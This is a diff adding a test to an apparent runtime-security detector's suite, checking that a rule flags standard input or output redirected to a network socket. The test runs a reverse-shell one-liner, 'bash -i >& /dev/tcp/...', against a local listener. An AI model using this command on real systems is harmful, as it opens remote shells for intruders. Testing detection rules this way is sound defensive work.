@@ -124,4 +124,27 @@ describe.skipIf(skipReason !== undefined)("default rules: command and control, e
     await agent.settle();
     expect(agent.of(benign.pid, rule)).toEqual([]);
   });
+
+  it("Standard input or output redirected to a network socket: bash -i >& /dev/tcp, not a redirect to a file", async () => {
+    const rule = "Standard input or output redirected to a network socket";
+    const benign = await exec("/bin/bash", ["-c", `exec 1>${join(work, "out.txt")} 0<&1; true`]);
+    // The listener closes the connection at once: the shell reads end-of-file and exits.
+    const attack = await exec("/bin/bash", ["-c", `bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1`]);
+    const d = await agent.waitFor(
+      (x) =>
+        x.rule === rule &&
+        x.output_fields["proc.name"] === "bash" &&
+        x.output_fields["proc.pcmdline"] === `bash -c bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1`,
+      rule,
+    );
+    expect(d).toMatchObject({
+      priority: "Warning",
+      tags: expect.arrayContaining(["T1059.004"]),
+      output_fields: { "fd.name": expect.stringContaining(`->127.0.0.1:${port}`) },
+    });
+    expect([0, 1, 2]).toContain(d.output_fields["evt.rawres"]);
+    await agent.settle();
+    expect(agent.of(benign.pid, rule)).toEqual([]);
+    expect(attack.pid).toBeGreaterThan(0);
+  });
 });
